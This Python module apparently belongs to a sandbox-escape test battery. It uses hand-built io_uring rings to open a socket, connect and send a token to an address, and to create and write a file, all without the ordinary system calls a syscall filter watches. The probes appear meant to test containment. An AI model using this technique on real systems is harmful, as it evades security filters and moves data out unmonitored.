"""io_uring by hand: its operations reach the kernel without the system calls a filter knows.

Structures and numbers: linux/io_uring.h. Only what three attempts need.
"""

import ctypes
import os
import struct
import time
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from bioguard.evidence.escape_battery.context import Context

_ENTRIES: Final = 8
_OP_WRITE, _OP_OPENAT, _OP_CONNECT, _OP_SEND, _OP_SOCKET = 23, 18, 16, 26, 45
_OFF_SQ, _OFF_CQ, _OFF_SQES = 0, 0x8000000, 0x10000000
_ENTER_GETEVENTS: Final = 1
_SHARED_RW = (3, 0x8001)  # PROT_READ|PROT_WRITE, MAP_SHARED|MAP_POPULATE


class _Ring:
    """A ring that runs one operation at a time."""

    def __init__(self, c: "Context") -> None:
        self._c = c
        parameters = ctypes.create_string_buffer(120)
        self._fd = c.sys("io_uring_setup", _ENTRIES, parameters)
        self._sq = struct.unpack_from("<10I", parameters.raw, 40)
        self._cq = struct.unpack_from("<10I", parameters.raw, 80)
        protection, flags = _SHARED_RW
        self._sq_map = c.sys("mmap", None, 8192, protection, flags, self._fd, _OFF_SQ)
        self._cq_map = c.sys("mmap", None, 8192, protection, flags, self._fd, _OFF_CQ)
        self._entries = c.sys("mmap", None, 4096, protection, flags, self._fd, _OFF_SQES)

    def _u32(self, base: int, offset: int) -> ctypes.c_uint32:
        return ctypes.c_uint32.from_address(base + offset)

    def run(self, entry: bytes) -> int:
        """Submit one 64-byte entry, wait for its completion, return its result. Raises OSError."""
        tail = self._u32(self._sq_map, self._sq[1])
        mask = self._u32(self._sq_map, self._sq[2]).value
        slot = tail.value & mask
        ctypes.memmove(self._entries + 64 * slot, entry.ljust(64, b"\0"), 64)
        self._u32(self._sq_map, self._sq[6] + 4 * slot).value = slot
        tail.value += 1
        self._c.sys("io_uring_enter", self._fd, 1, 1, _ENTER_GETEVENTS, None, 0)
        head = self._u32(self._cq_map, self._cq[0])
        deadline = time.monotonic() + 1
        while head.value == self._u32(self._cq_map, self._cq[1]).value:
            if time.monotonic() > deadline:
                raise TimeoutError(110, "no completion")
        index = head.value & self._u32(self._cq_map, self._cq[2]).value
        result = ctypes.c_int32.from_address(self._cq_map + self._cq[5] + 16 * index + 8).value
        head.value += 1
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


def _entry(op: int, fd: int, offset: int, address: int, length: int, flags: int = 0) -> bytes:
    return struct.pack("<BBHiQQII", op, 0, 0, fd, offset, address, length, flags)


def ring_setup(c: "Context") -> None:
    """Make a ring."""
    _Ring(c)


def ring_send_tcp(c: "Context", address: bytes) -> None:
    """Socket, connect and send as ring operations."""
    ring = _Ring(c)
    fd = ring.run(_entry(_OP_SOCKET, 2, 1, 0, 0))
    peer = ctypes.create_string_buffer(address, len(address))
    ring.run(_entry(_OP_CONNECT, fd, len(address), ctypes.addressof(peer), 0))
    data = ctypes.create_string_buffer(c.token, len(c.token))
    ring.run(_entry(_OP_SEND, fd, 0, ctypes.addressof(data), len(c.token)))


def ring_write_file(c: "Context", path: bytes) -> None:
    """Open and write as ring operations."""
    ring = _Ring(c)
    name = ctypes.create_string_buffer(path)
    fd = ring.run(_entry(_OP_OPENAT, -100, 0, ctypes.addressof(name), 0o600, os.O_WRONLY | os.O_CREAT))
    data = ctypes.create_string_buffer(c.token, len(c.token))
    ring.run(_entry(_OP_WRITE, fd, 0, ctypes.addressof(data), len(c.token)))
